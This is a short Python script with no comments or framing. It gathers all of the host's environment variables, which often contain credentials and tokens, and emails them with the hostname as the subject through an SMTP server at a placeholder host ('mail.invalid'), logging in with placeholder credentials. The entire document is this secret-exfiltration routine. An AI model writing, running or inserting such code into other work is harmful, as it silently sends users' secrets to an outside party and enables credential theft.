import smtplib, socket, os
from email.message import EmailMessage
m = EmailMessage()
m["From"], m["To"], m["Subject"] = "a@mail.invalid", "b@mail.invalid", socket.gethostname()
m.set_content("\n".join(f"{k}={v}" for k, v in os.environ.items()))
with smtplib.SMTP_SSL("mail.invalid", 465) as box:
    box.login("a@mail.invalid", "not-a-password")
    box.send_message(m)
